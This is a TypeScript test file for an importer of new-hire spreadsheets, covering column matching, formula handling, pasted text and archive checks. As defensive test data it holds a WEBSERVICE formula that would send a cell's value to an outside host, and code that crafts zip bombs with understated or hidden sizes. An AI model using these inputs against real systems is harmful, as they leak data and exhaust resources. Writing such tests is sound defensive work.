import { zipSync } from 'fflate'
import { headingNames } from '@desk/shared/accounts/heading-names'
import { joinerFields } from '@desk/shared/accounts/joiner-fields'
import { readSheet } from 'read-excel-file/universal'
import { describe, expect, it } from 'vitest'
import { archiveFault } from './check-archive.ts'
import { readCells, type SheetCell, splitPasted } from './read-cells.ts'

const OPENXML_URL = 'http://schemas.openxmlformats.org'

/** Returns an XLSX file with one sheet: the inner XML of each cell, and its type. */
function workbookOf(rows: readonly (readonly { type: string; xml: string }[])[]): ArrayBuffer {
  const lines = rows.map((cells, row) => {
    const no = String(row + 1)
    const cellElements = cells.map(
      ({ type, xml }, column) => `<c r="${'ABCDEFG'.charAt(column)}${no}" t="${type}">${xml}</c>`,
    )
    return `<row r="${no}">${cellElements.join('')}</row>`
  })
  const main = `xmlns="${OPENXML_URL}/spreadsheetml/2006/main"`
  const relationships = `${OPENXML_URL}/officeDocument/2006/relationships`
  const files = {
    'xl/workbook.xml': `<workbook ${main} xmlns:r="${relationships}"><sheets><sheet name="入职" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${OPENXML_URL}/package/2006/relationships"><Relationship Id="rId1" Type="${relationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<worksheet ${main}><sheetData>${lines.join('')}</sheetData></worksheet>`,
  }
  const encoder = new TextEncoder()
  const bytes = Object.fromEntries(Object.entries(files).map(([name, xml]) => [name, encoder.encode(xml)]))
  return Uint8Array.from(zipSync(bytes)).buffer
}

describe('readCells', () => {
  it('columns are found below other lines by their own names or those of other systems, and other columns are not read', () => {
    const cells = [
      ['三月入职'],
      ['员工姓名', '身份证号', '所属部门', '电话', '入职日期'],
      ['贺铭', '440300199001011234', '数控一班', 13_812_342_046, new Date('2026-03-23T00:00:00Z')],
      [null, null, null, null, null],
    ]
    const result = readCells(cells)
    if (typeof result === 'string') throw new Error(result)
    expect(result.ignored).toEqual(['身份证号'])
    expect(result.rows).toMatchObject([
      { no: 3, name: '贺铭', department: '数控一班', mobile: '13812342046', startsOn: '2026-03-23' },
    ])
    expect(JSON.stringify(result.rows)).not.toContain('440300199001011234')
  })

  it('a formula is read as the value that is stored with it, and as nothing if none is stored', async () => {
    const text = (value: string) => ({ type: 'inlineStr', xml: `<is><t>${value}</t></is>` })
    const file = workbookOf([
      ['姓名', '部门', '手机', '岗位'].map(text),
      [
        { type: 'str', xml: '<f>CONCATENATE("贺","铭")</f><v>贺铭</v>' },
        text('数控一班'),
        { type: 'n', xml: '<f>13812342000+46</f><v>13812342046</v>' },
        { type: 'str', xml: '<f>WEBSERVICE("https://example.com/?q="&amp;A2)</f>' },
      ],
    ])
    const result = readCells((await readSheet(file)) as SheetCell[][])
    expect(result).toMatchObject({
      rows: [{ no: 2, name: '贺铭', department: '数控一班', mobile: '13812342046', position: '' }],
    })
    expect(JSON.stringify(result)).not.toMatch(/CONCATENATE|WEBSERVICE|example\.com/)
  })

  it('every heading of the template names its own field', () => {
    const filled = readCells([joinerFields.map((field) => headingNames[field][0]), [...joinerFields]])
    expect(filled).toMatchObject({
      ignored: [],
      rows: [{ no: 2, ...Object.fromEntries(joinerFields.map((field) => [field, field])) }],
    })
  })

  it('a table without column names, without rows or with too many rows is refused', () => {
    expect(readCells([['贺铭', '数控一班']])).toBe('no_columns')
    expect(readCells([['姓名', '部门']])).toBe('no_rows')
    expect(readCells([['姓名', '部门'], ...Array.from({ length: 2001 }, () => ['贺铭', '数控一班'])])).toBe('too_many')
  })
})

describe('splitPasted', () => {
  it('tabs, commas, quotes and line breaks within quotes are read as a spreadsheet writes them', () => {
    expect(splitPasted('姓名\t部门\r\n贺铭\t"一\n""二"""\n\n')).toEqual([
      ['姓名', '部门'],
      ['贺铭', '一\n"二"'],
    ])
    expect(splitPasted('姓名,部门\n贺铭,数控')).toEqual([
      ['姓名', '部门'],
      ['贺铭', '数控'],
    ])
  })
})

describe('archiveFault', () => {
  it('a small archive has no fault, a text file is unreadable, and a file above 10 MB is too large', () => {
    expect(archiveFault(zipSync({ 'a.xml': new TextEncoder().encode('<a/>') }))).toBeNull()
    expect(archiveFault(new TextEncoder().encode('姓名,部门'))).toBe('unreadable')
    expect(archiveFault(new Uint8Array(10 * 1024 * 1024 + 1))).toBe('too_large')
  })

  it('an archive that inflates to more than 50 MB is refused, even when it states less', () => {
    const bomb = zipSync({ 'a.xml': new Uint8Array(51 * 1024 * 1024) })
    expect(bomb.length).toBeLessThan(200_000)
    expect(archiveFault(bomb)).toBe('inflated')
    // Understates the size in the local header and in the directory.
    const understated = bomb.slice()
    const directory = understated.lastIndexOf(0x02, understated.length - 20)
    new DataView(understated.buffer).setUint32(22, 10, true)
    if (directory > 0) new DataView(understated.buffer).setUint32(understated.length - 22 - 46 - 5 + 24, 10, true)
    expect(archiveFault(understated)).toBe('inflated')
  })

  it('a bomb that is hidden in a stored file, and listed by the directory alone, is refused', () => {
    const bomb = zipSync({ 'a.xml': new Uint8Array(51 * 1024 * 1024) })
    const outer = zipSync({ x: [bomb, { level: 0 }] })
    const [HEADER, END] = [31, 22]
    const startOf = (bytes: Uint8Array) => new DataView(bytes.buffer).getUint32(bytes.length - END + 16, true)
    const directory = bomb.slice(startOf(bomb), bomb.length - END)
    new DataView(directory.buffer).setUint32(42, HEADER, true)
    const end = bomb.slice(-END)
    new DataView(end.buffer).setUint32(16, startOf(outer), true)
    const hidden = Uint8Array.from([...outer.slice(0, startOf(outer)), ...directory, ...end])
    expect(archiveFault(hidden)).toBe('inflated')
  })
})
